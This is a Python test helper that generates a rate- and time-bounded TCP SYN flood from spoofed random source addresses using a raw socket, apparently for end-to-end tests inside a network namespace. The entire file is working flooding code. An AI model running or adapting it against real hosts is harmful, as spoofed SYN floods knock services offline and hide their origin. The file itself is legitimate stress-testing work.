#!/usr/bin/python3
"""A bounded SYN flood with random (spoofed) sources, for the e2e tests.

  syn_flood.py DST DPORT COUNT RATE MAX_S

Sends at most COUNT TCP SYNs to DST:DPORT through a raw IPv4 socket
(IP_HDRINCL), each from a random source address and port, at about RATE per
second, and stops after MAX_S seconds whatever the count. Prints one line:
"sent N in S s". Needs root (CAP_NET_RAW); meant to run inside a network
namespace the test created. Standard library only (no scapy, no hping3).
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main():
    dst, dport = sys.argv[1], int(sys.argv[2])
    count, rate, max_s = int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    rng = random.Random(7)
    dst_b = socket.inet_aton(dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    start = time.monotonic()
    sent = 0
    batch = 100
    while sent < count:
        now = time.monotonic() - start
        if now >= max_s:
            break
        ahead = sent / rate - now
        if ahead > 0:
            time.sleep(min(ahead, 0.05))
            continue
        for _ in range(min(batch, count - sent)):
            src = struct.pack("!I", rng.randrange(0x01000000, 0xDF000000))
            pkt = syn(src, dst_b, rng.randrange(1024, 65536), dport, rng.getrandbits(32))
            try:
                s.sendto(pkt, (dst, 0))
            except OSError:
                pass  # a full socket buffer: the packet is simply lost
            sent += 1
    print(f"sent {sent} in {time.monotonic() - start:.1f} s", flush=True)


if __name__ == "__main__":
    main()
